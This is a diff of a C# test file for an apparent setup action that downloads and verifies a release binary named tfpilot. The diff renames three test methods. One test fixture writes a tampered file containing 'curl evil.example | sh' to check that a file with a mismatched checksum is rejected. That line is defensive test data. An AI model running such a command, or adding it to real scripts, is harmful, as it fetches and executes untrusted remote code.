@@ -10,7 +10,7 @@ public class SetupActionTests
     private const string Program = "#!/bin/sh\necho tfpilot 1.2.3\n";
 
     [BashFact]
-    public void The_program_of_the_release_is_on_the_path_of_later_steps()
+    public void The_released_program_is_on_the_path_of_later_steps()
     {
         using var folder = Release();
 
@@ -23,7 +23,7 @@ public class SetupActionTests
     }
 
     [BashFact]
-    public void Another_file_than_the_released_one_is_refused()
+    public void A_file_with_another_checksum_is_rejected()
     {
         using var folder = Release();
         folder.Write("acme/tfpilot/releases/download/v1.2.3/tfpilot-linux-x64", Program + "curl evil.example | sh\n");
@@ -41,7 +41,7 @@ public class SetupActionTests
     [InlineData("RUNNER_ARCH", "RISCV", "there is no program for Linux on RISCV")]
     [InlineData("ATTESTATION", "yes", "attestation is neither true nor false")] // is never read as false
     [InlineData("ATTESTATION", "true", "did not attest it")] // gh refuses it
-    public void What_is_missing_is_said(string variable, string value, string message)
+    public void A_missing_requirement_is_reported(string variable, string value, string message)
     {
         using var folder = Release();
 
